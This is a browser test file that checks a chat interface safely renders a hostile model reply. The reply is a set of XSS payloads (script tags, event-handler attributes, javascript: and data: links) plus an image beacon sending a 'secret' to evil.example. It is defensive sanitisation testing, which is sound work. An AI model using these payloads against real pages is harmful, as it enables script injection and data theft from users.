"""What a model writes is shown as Markdown, and nothing in it is ever run or fetched."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterator

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Request, expect

from tests.browser.chat import BRIEF, PATIENCE, chromium, leads, open_chat
from tests.conftest import StartSidecar
from tests.support.openai_server import OpenAIServer, Script
from tests.support.sidecar import Sidecar

REPLY = """\
Some **bold** words and a [good link](https://example.com/fine).

<script>window.hacked = "script"</script>
<img src="x" onerror="window.hacked = 'image'">
<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<svg onload="window.hacked = 'svg'"></svg>

[one](javascript:window.hacked='link') [two](JaVaScRiPt:window.hacked='case')
[three](data:text/html,<script>window.hacked='data'</script>) [four](vbscript:x)
<a href="javascript:window.hacked='html'">five</a> <javascript:window.hacked='auto'>

![a picture](https://evil.example/pixel.png?secret=1)

```html
<script>window.hacked = "code"</script>
```

- <b onclick="window.hacked = 'item'">an item</b>
"""


@pytest.fixture
def spiteful(start_sidecar: StartSidecar, origins: str) -> Iterator[Sidecar]:
    """A sidecar whose model means harm."""
    tokens = tuple(re.findall(r".{1,7}", REPLY, re.DOTALL))
    with OpenAIServer(Script(tokens=tokens)) as model:
        yield start_sidecar(
            CREW_MODEL="",
            OPENAI_API_KEY="sk-test-0123456789",
            OPENAI_BASE_URL=model.base_url,
            SIDECAR_ORIGINS=origins,
        )


@pytest_asyncio.fixture(loop_scope="session")
async def browser(spiteful: Sidecar) -> AsyncIterator[Browser]:
    async with chromium(leads(spiteful.url)) as browser:
        yield browser


async def test_no_html_script_or_link_of_a_reply_does_anything(
    browser: Browser, page_url: str
) -> None:
    chat = await open_chat(browser, page_url)
    fetched: list[str] = []

    def on_request(request: Request) -> None:
        fetched.append(request.url)

    chat.page.on("request", on_request)
    await chat.send(BRIEF)
    await expect(chat.answer).to_be_visible(timeout=2 * PATIENCE)
    messages = chat.page.locator(".messages")
    await expect(chat.answer.locator("strong")).to_have_text("bold")
    await expect(chat.answer.locator("pre code")).to_contain_text("<script>window.hacked")
    await expect(chat.answer.get_by_text("a picture")).to_be_visible()
    for element in ("script", "img", "iframe", "b", "[onclick]", "[onload]", "[onerror]"):
        await expect(messages.locator(element)).to_have_count(0)
    links = chat.answer.locator("a")
    for link in await links.all():
        # A link that was taken away leads to this page itself.
        if await link.get_attribute("href") not in ("", None, "https://example.com/fine"):
            pytest.fail(await link.evaluate("element => element.outerHTML"))
    await expect(links.first).to_have_attribute("rel", "noreferrer")
    assert await chat.page.evaluate("window.hacked") is None
    assert not [url for url in fetched if "evil.example" in url]
    assert chat.complaints == []
